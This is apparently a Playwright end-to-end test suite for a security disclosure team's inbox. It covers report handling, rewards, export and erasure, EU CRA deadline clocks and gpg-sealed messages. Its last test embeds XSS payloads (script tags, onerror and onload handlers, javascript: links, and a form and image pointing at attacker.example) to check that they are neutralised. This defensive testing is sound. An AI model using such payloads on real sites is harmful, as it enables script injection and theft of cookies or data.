import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { readReport } from '../../src/disclosure/report.ts';
import type { TeamCase } from '../../src/disclosure/team-wire.ts';
import type { LanguageCode } from '../../src/i18n/languages.ts';
import { violationsOn } from '../support/axe.ts';
import {
  inboxPaths,
  openFromList,
  openReply,
  sendComposed,
  signInWithKey,
  waitForCase,
} from '../support/inbox-page.ts';
import { markers } from '../support/report-page.ts';
import { giveCode } from '../support/status-page.ts';
import { startTeamSite, type TeamSite } from '../support/team-site.ts';
import { ANNA, BRAM, PASSPHRASE } from '../support/teams.ts';
import { unzipStored } from '../support/zip.ts';

const statusPaths: Record<LanguageCode, string> = { nl: '/status', en: '/en/status' };
const inDays = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);

const story = {
  nl: {
    who: 'anna',
    name: ANNA,
    passphrase: '',
    group: 'Eerst dit',
    confirmed: 'Je hebt gelijk',
    letterDate: new Intl.DateTimeFormat('nl-NL', { dateStyle: 'long', timeZone: 'UTC' }),
    late: 'Gesloten',
    event: 'Eerste antwoord gegeven: Bevestigd',
    reward: '€\u00a050',
    unfinished: 'nog niet af',
    unanswered: 'dat is nog niet beantwoord',
    limits: 'Niet verder gegaan dan nodig',
    otherwise: 'Wat er anders was',
    notSo: 'dat is niet zo',
  },
  en: {
    who: 'bram',
    name: BRAM,
    passphrase: PASSPHRASE,
    group: 'First',
    confirmed: 'You are right',
    letterDate: new Intl.DateTimeFormat('en-GB', { dateStyle: 'long', timeZone: 'UTC' }),
    late: 'Closed',
    event: 'First response given: Confirmed',
    reward: '€50',
    unfinished: 'not complete yet',
    unanswered: 'nobody has answered that yet',
    limits: 'Went no further than needed',
    otherwise: 'What was different',
    notSo: 'that is not so',
  },
} as const;

describe('the inbox of the team', () => {
  let desk: TeamSite;
  beforeAll(async () => {
    desk = await startTeamSite();
  });
  afterAll(() => desk?.stop());
  afterEach(() => {
    expect(desk.errors.splice(0)).toEqual([]);
  });

  async function openStatus(page: Page, language: LanguageCode, receipt: string) {
    await page.goto('about:blank');
    await page.goto(`${desk.site.url}${statusPaths[language]}#${receipt.replaceAll(/\s/g, '')}`);
    await page.waitForSelector('#case:not([hidden])');
  }

  it.each(['nl', 'en'] as const)(
    'in %s: a report is opened, answered, talked about, solved, rewarded and closed',
    async (language) => {
      const words = story[language];
      const context = desk.watch(await desk.browser.newContext());
      const content = Buffer.from(`proof of concept ${language}\r\n\0\xff`, 'latin1');
      const { reference, receipt } = await desk.report(context, language, {}, async (page) => {
        await page.uncheck('#field-keptToLimits');
        await page.setInputFiles('#field-files', [
          { name: 'bewijs <b>één</b>.bin', mimeType: 'application/octet-stream', buffer: content },
        ]);
      });
      const teamContext = desk.watch(await desk.browser.newContext({ acceptDownloads: true }));
      const inbox = await teamContext.newPage();
      await signInWithKey(inbox, desk.site.url + inboxPaths[language], {
        file: desk.keys[words.who],
        passphrase: words.passphrase,
      });
      expect(await inbox.textContent('#who-name')).toContain(words.name);
      // The list: what needs an answer stands first, with the time that is left.
      await inbox.waitForSelector(`#list-cases a[href="#${reference}"]`);
      expect(await inbox.textContent('#list-cases h3')).toContain(words.group);
      // The report says that it is exploited: that is looked into first.
      expect(await inbox.textContent('#list-cases .due')).toMatch(
        /^(Misbruik\? · nog|Exploited\? ·) 23 (uur|hours)/,
      );
      await openFromList(inbox, reference);

      // The report in its fields, rendered; the attachment byte for byte, under a name that does no harm.
      await inbox.waitForSelector('#report-body .rendered');
      await openReply(inbox);
      const report = (await inbox.textContent('#report-body')) ?? '';
      for (const text of [markers.system, markers.name, markers.contact, markers.credit, markers.impact])
        expect(report).toContain(text);
      // Which condition does not hold, and what was otherwise.
      const answerTo = (field: string) =>
        inbox.locator('#report-body .facts > div').filter({ hasText: field }).locator('dd').textContent();
      expect(await answerTo(words.limits)).toBe(words.notSo);
      expect(await answerTo(words.otherwise)).toBe(markers.otherwise);
      expect(await inbox.locator('#report-body .rendered code').first().textContent()).toBe('curl');
      await inbox.waitForSelector('#team-files button', { timeout: 20_000 });
      const [download] = await Promise.all([
        inbox.waitForEvent('download'),
        inbox.locator('#team-files button').first().click(),
      ]);
      expect(readFileSync(await download.path())).toEqual(content);
      expect(download.suggestedFilename()).toBe('bewijs _b_één__b_.bin');

      // The first response: assessment, date and a ready-made letter that follows the date.
      await inbox.check('#assessment-confirmed');
      await inbox.selectOption('#compose-ready', 'confirmed');
      await inbox.click('#compose-insert');
      expect(await inbox.inputValue('#compose-message')).toContain('…');
      await inbox.click('#compose-submit');
      expect(await inbox.textContent('#error-compose')).toContain(words.unfinished);
      await inbox.fill('#compose-date', inDays(20));
      const letter = await inbox.inputValue('#compose-message');
      expect(letter).toContain(words.confirmed);
      expect(letter).toContain(words.letterDate.format(new Date(inDays(20))));
      expect(letter).toContain(reference);
      await sendComposed(inbox);
      expect(await inbox.inputValue('#compose-message')).toBe('');
      expect(await inbox.textContent('#team-timeline')).toContain(words.event);
      expect(await inbox.textContent('#team-timeline')).toContain(words.name.replace(/ <.*/, ''));
      expect(await inbox.locator('#deadlines .met').count()).toBe(1);

      // The reporter sees it, and answers.
      const status = await context.newPage();
      await openStatus(status, language, receipt);
      expect(await status.textContent('#case-messages')).toContain(words.confirmed);
      expect(await status.textContent('#case-timeline')).toContain(
        words.letterDate.format(new Date(inDays(20))),
      );
      await status.fill('#field-message', '**Thanks**, does marker-followup help?');
      await status.click('#message-send');
      await status.waitForFunction(() => document.querySelectorAll('#case-messages > li').length === 3);

      // The team sees the answer waiting in the list, opens it, and goes on to solved, with a reward.
      await inbox.click('#to-list');
      await inbox.waitForSelector(`.group-due li:has(a[href="#${reference}"]) .tag-notice`);
      await openFromList(inbox, reference);
      await inbox.waitForFunction(() =>
        document.getElementById('team-messages')?.textContent?.includes('marker-followup'),
      );
      await inbox.selectOption('#compose-status', 'fixing');
      await sendComposed(inbox);
      await inbox.selectOption('#compose-status', 'resolved');
      await inbox.fill('#compose-reward', '50');
      await inbox.selectOption('#compose-ready', 'thanks');
      await inbox.click('#compose-insert');
      const thanks = await inbox.inputValue('#compose-message');
      expect(thanks).toContain(words.reward);
      await inbox.click('#compose-submit');
      expect(await inbox.textContent('#error-compose')).toContain(words.unfinished);
      // Why it does not go is whole in view, above the field that has the keyboard.
      await inbox.waitForFunction(() => {
        const { top = 0, bottom = 0 } =
          document.getElementById('error-compose')?.getBoundingClientRect() ?? {};
        const panel = document.querySelector('.dock-panel')?.getBoundingClientRect();
        const isSeen = panel && bottom > top && top >= panel.top - 1 && bottom <= panel.bottom;
        return isSeen && document.activeElement?.id === 'compose-message';
      });
      await inbox.fill('#compose-message', thanks.replace(/(omdat|because) /, '$1 it was new.'));
      await sendComposed(inbox);
      await inbox.selectOption('#credit', 'named');
      await inbox.click('#actions-save');
      await inbox.waitForFunction(() => document.getElementById('actions-status')?.textContent !== '');
      await openStatus(status, language, receipt);
      expect(await status.textContent('#case-reward')).toBe(words.reward);
      expect(await status.isVisible('#case-resolved')).toBe(true);

      // The report says that it is exploited: that is answered before the case closes, and the form says so.
      await inbox.selectOption('#compose-status', 'closed');
      await inbox.click('#compose-submit');
      await inbox.waitForFunction(
        (said) => document.getElementById('error-close')?.textContent?.includes(said),
        words.unanswered,
      );
      expect(await inbox.getAttribute('#compose-submit', 'aria-describedby')).toBe('error-close');
      await inbox.click('#claim-not-true');
      await inbox.waitForSelector('#claim', { state: 'detached' });
      await inbox.waitForSelector('#error-close', { state: 'hidden' });
      await inbox.selectOption('#compose-status', 'closed');
      await sendComposed(inbox);
      await inbox.click('#to-list');
      // What is closed is there when it is asked for.
      await inbox.click('#filter-unfold');
      await inbox.selectOption('#filter-status', 'closed');
      await inbox.waitForSelector(`.group-closed a[href="#${reference}"]`);

      // Every message opens with gpg for both of the team, and the store knows who sent it. Whose follow-up it is gpg
      // says by the key in the report.
      const messages = await desk.store.readMessages(reference);
      const opened = desk.team.decrypt(messages[0]?.sealed ?? '', PASSPHRASE);
      desk.team.import(readReport(opened).replyKey);
      expect(messages.map(({ from, by }) => [from, by])).toEqual([
        ['reporter', null],
        ['team', words.name],
        ['reporter', null],
        ['team', words.name],
      ]);
      for (const { sealed } of messages) {
        expect(desk.team.decrypt(sealed, PASSPHRASE).length).toBeGreaterThan(0);
        const packets = desk.team.run(
          ['--pinentry-mode', 'loopback', '--passphrase', PASSPHRASE, '--list-packets'],
          sealed,
        );
        expect(packets.match(/pubkey enc packet/g)?.length).toBeGreaterThanOrEqual(2);
      }
      expect((await desk.store.findCase(reference))?.status).toBe('closed');
      await context.close();
      await teamContext.close();
    },
  );

  it('a case that is kept as an archive opens with gpg; one that is erased is gone for both', async () => {
    const context = desk.watch(await desk.browser.newContext({ acceptDownloads: true }));
    const file = { name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from('attached words') };
    const { reference, receipt } = await desk.report(context, 'en', {}, (page) =>
      page.setInputFiles('#field-files', [file]),
    );
    const inbox = await context.newPage();
    let isOnItsWay = true;
    await inbox.route(`**/api/staff/cases/${reference}`, async (route) => {
      if (!isOnItsWay) return route.continue();
      const view = (await (await route.fetch()).json()) as TeamCase;
      const attachments = view.attachments.map((one) => ({ ...one, isComplete: false }));
      await route.fulfill({ json: { ...view, attachments } });
    });
    await signInWithKey(inbox, `${desk.site.url}/en/inbox#${reference}`, { file: desk.keys.anna });
    await waitForCase(inbox);
    // When the case was opened the attachment was still on its way.
    expect(await inbox.locator('#team-files button').count()).toBe(0);
    isOnItsWay = false;
    const [download] = await Promise.all([inbox.waitForEvent('download'), inbox.click('#export')]);
    expect(download.suggestedFilename()).toBe(`${reference}.zip`);
    const files = unzipStored(readFileSync(await download.path()));
    const names = [...files.keys()];
    const report = files.get(`${reference}/messages/001-reporter.asc`)?.toString() ?? '';
    expect(desk.team.decrypt(report, PASSPHRASE)).toContain(markers.system);
    const attachment = names.find((name) => name.includes('/attachments/')) ?? '';
    expect(desk.team.run(['--decrypt'], files.get(attachment) ?? '')).toBe('attached words');
    const kept: unknown = JSON.parse(files.get(`${reference}/case.json`)?.toString() ?? '');
    expect(kept).toMatchObject({ reference, status: 'received', events: [] });
    for (const needle of ['marker-', 'attached words', 'a.txt'])
      expect(JSON.stringify(kept)).not.toContain(needle);

    inbox.on('dialog', (dialog) => void dialog.accept());
    await inbox.click('#erase');
    await inbox.waitForSelector('#inbox-notice:not([hidden])');
    expect(await desk.store.findCase(reference)).toBeNull();
    const status = await context.newPage();
    await giveCode(status, `${desk.site.url}/en/status`, receipt);
    await status.waitForSelector('#error-code:not([hidden])');
    await context.close();
  });

  it('marked as actively exploited, the four clocks run, are ticked off, and hold the case open', async () => {
    const context = desk.watch(await desk.browser.newContext());
    const { reference } = await desk.report(context, 'nl');
    const inbox = await context.newPage();
    await signInWithKey(inbox, `${desk.site.url}/inbox#${reference}`, { file: desk.keys.anna });
    await waitForCase(inbox);
    inbox.on('dialog', (dialog) => void dialog.accept());
    await inbox.click('#cra summary');
    expect(await inbox.getAttribute('#cra a', 'href')).toMatch(/^https:\/\/www\.enisa\.europa\.eu\//);
    await inbox.click('#cra-start');
    await inbox.waitForFunction(() => document.querySelectorAll('#deadlines li').length === 6);
    // Whether it is exploited, as the report says, is answered with it.
    const [, check, ...due] = await inbox.locator('#deadlines li').allTextContents();
    expect(check).toContain('nagegaan op');
    expect(due[0]).toMatch(/Vroegtijdige waarschuwing.*nog 23 uur, 59 minuten/);
    expect(due[1]).toMatch(/nog 2 dagen, 23 uur/);
    expect(due[2]).toMatch(/Gebruikers informeren.*nog 2 dagen, 23 uur/);
    expect(due[3]).toContain('14 dagen nadat er een oplossing is');
    // There is no fix yet that a final report could be about.
    expect(await inbox.getByRole('button', { name: /^(Gemeld|Gebruikers geïnformeerd): / }).count()).toBe(3);
    await inbox.getByRole('button', { name: 'Gemeld: Vroegtijdige waarschuwing' }).click();
    await inbox.fill('#reported-early-warning-number', 'SRP-2026-0042');
    // Refused, it was not reported, and no note says that it was.
    await inbox.fill('#reported-early-warning-at', '2020-01-01T00:00');
    await inbox.click('#reported-early-warning button[type=submit]');
    await inbox.waitForSelector('#error-reported-early-warning-at:not([hidden])');
    expect(await desk.store.readNotes(reference)).toEqual([]);
    expect(await inbox.inputValue('#reported-early-warning-number')).toBe('SRP-2026-0042');
    await inbox.fill('#reported-early-warning-at', '');
    // Ticked off without its note, the number is still there to be kept.
    await inbox.route('**/notes', (route) => route.fulfill({ status: 503, body: '' }), { times: 1 });
    await inbox.click('#reported-early-warning button[type=submit]');
    await inbox.waitForSelector('#error-reported-early-warning-number:not([hidden])');
    expect(await inbox.locator('#deadlines .met').count()).toBe(2);
    expect((await desk.store.findCase(reference))?.reported['early-warning']).toBeGreaterThan(0);
    expect(await inbox.inputValue('#reported-early-warning-number')).toBe('SRP-2026-0042');
    expect(await violationsOn(inbox)).toEqual([]);
    await inbox.click('#deadlines .met button[type=submit]');
    await inbox.waitForSelector('#reported-early-warning-number', { state: 'detached' });
    // The number is the team's alone: it stands in a note, and nowhere readable.
    await inbox.locator('#notes').getByText('SRP-2026-0042').waitFor();
    const [note] = await desk.store.readNotes(reference);
    expect(note?.kind).toBe('note');
    expect(note?.sealed).toMatch(/^-----BEGIN PGP MESSAGE-----/);
    await inbox.getByRole('button', { name: 'Toch niet gemeld: Vroegtijdige waarschuwing' }).click();
    await inbox.waitForFunction(() => document.querySelectorAll('#deadlines .met').length === 1);
    expect((await desk.store.findCase(reference))?.reported['early-warning']).toBeNull();
    expect(await inbox.textContent('#team-timeline')).toContain('Toch niet gemeld');
    // Nor is it erased while something is owed.
    await inbox.click('#erase');
    await inbox.waitForSelector('#error-erase:not([hidden])');
    expect(await inbox.textContent('#error-erase')).toContain('sluit of wist');
    expect(await inbox.getAttribute('#erase', 'aria-describedby')).toBe('error-erase');
    expect(await desk.store.findCase(reference)).not.toBeNull();
    await context.close();
  });

  it.each(['nl', 'en'] as const)(
    'in %s: the clocks run from when the team knew, in its own time; what can not be undone is asked first',
    async (language) => {
      const context = desk.watch(await desk.browser.newContext({ timezoneId: 'America/New_York' }));
      const { reference } = await desk.report(context, language);
      const inbox = await context.newPage();
      const path = language === 'nl' ? '/inbox' : '/en/inbox';
      await signInWithKey(inbox, `${desk.site.url}${path}#${reference}`, { file: desk.keys.anna });
      await waitForCase(inbox);
      const asked: string[] = [];
      let answer = false;
      inbox.on('dialog', (dialog) => {
        asked.push(dialog.message());
        void (answer ? dialog.accept() : dialog.dismiss());
      });
      await inbox.click('#cra summary');
      const since = new Date(Date.now() - 30 * 3_600_000);
      since.setUTCSeconds(0, 0);
      const local = new Intl.DateTimeFormat('sv-SE', {
        ...{ timeZone: 'America/New_York', dateStyle: 'short', timeStyle: 'short' },
      });
      await inbox.fill('#cra-since', local.format(since).replace(' ', 'T'));
      await inbox.click('#cra-start');
      expect((await desk.store.findCase(reference))?.exploitedAt).toBeNull();
      answer = true;
      await inbox.click('#cra-start');
      await inbox.waitForFunction(() => document.querySelectorAll('#deadlines li').length === 6);
      expect(asked[1]).toContain(language === 'nl' ? 'lopen vanaf' : 'run from');
      expect((await desk.store.findCase(reference))?.exploitedAt).toBe(since.getTime());
      expect(await inbox.locator('#deadlines li').nth(2).textContent()).toMatch(/6 (uur|hours)/);
      expect(await inbox.locator('#deadlines .due-late').count()).toBe(1);
      expect(await inbox.textContent('#team-timeline')).toMatch(/bekend sinds|known since/);
      expect(await inbox.isVisible('#cra-since')).toBe(false);
      // It was reported an hour ago, five hours too late, and that shows.
      await inbox
        .getByRole('button', { name: /^(Gemeld: Vroegtijdige waarschuwing|Reported: Early warning)$/ })
        .click();
      const made = new Date(Date.now() - 3_600_000);
      made.setUTCSeconds(0, 0);
      await inbox.fill('#reported-early-warning-at', local.format(made).replace(' ', 'T'));
      expect(await violationsOn(inbox)).toEqual([]);
      await inbox.click('#reported-early-warning button[type=submit]');
      await inbox.waitForSelector('#deadlines .met .due-late');
      expect(await inbox.textContent('#deadlines .met .due-late')).toMatch(
        /gemeld op .+, 5 uur te laat|reported on .+, 5 hours late/,
      );
      expect((await desk.store.findCase(reference))?.reported['early-warning']).toBe(made.getTime());
      answer = false;
      await inbox.getByRole('button', { name: /^(Toch niet gemeld|Not reported after all): / }).click();
      expect(asked[2]).toMatch(/Vroegtijdige waarschuwing|Early warning/);
      expect((await desk.store.findCase(reference))?.reported['early-warning']).toBe(made.getTime());
      await context.close();
    },
  );

  it('a hostile report shows as text and pictures of nothing', async () => {
    const context = desk.watch(await desk.browser.newContext());
    const description = [
      '<script>window.hacked = 1</script><img src=x onerror="window.hacked=2">',
      '[click](javascript:window.hacked=3) ![leak](https://attacker.example/leak.png)',
      '<svg onload="window.hacked=4"><style>*{display:none}</style></svg>',
      '<form id="compose-form" action="https://attacker.example"><input name="cookie"></form>',
      'in front\n> -----BEGIN PGP MESSAGE-----\n>\n> aGVsbG8=\n> -----END PGP MESSAGE-----\n\n',
      '```\n-----BEGIN PGP SIGNATURE-----\n\naGVsbG8=\n-----END PGP SIGNATURE-----\n```\nbehind',
    ].join('\n\n');
    const { reference } = await desk.report(context, 'nl', { description });
    const inbox = await context.newPage();
    const requests: string[] = [];
    inbox.on('request', (request) => requests.push(new URL(request.url()).origin));
    await signInWithKey(inbox, `${desk.site.url}/inbox#${reference}`, { file: desk.keys.anna });
    await inbox.waitForSelector('#report-body .rendered');
    await openReply(inbox);
    await inbox.waitForTimeout(300);
    expect(await inbox.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
    expect(await inbox.locator('#report-body :is(img, a, svg, form, style, script, iframe)').count()).toBe(0);
    expect(new Set(requests)).toEqual(new Set([desk.site.url]));
    expect(await inbox.textContent('#report-body')).toContain('https://attacker.example/leak.png');
    // What says nothing to anybody is folded, and what stands around it is not.
    const folds = inbox.locator('#report-body .rendered').first().locator('details');
    expect(await folds.locator('summary').allTextContents()).toEqual(Array(2).fill('PGP-blok van 4 regels'));
    expect(await folds.locator('pre').first().isVisible()).toBe(false);
    expect(await folds.first().textContent()).toContain('aGVsbG8=');
    for (const words of ['in front', 'behind'])
      expect(await inbox.locator('#report-body p', { hasText: words }).isVisible()).toBe(true);
    await context.close();
  });
});
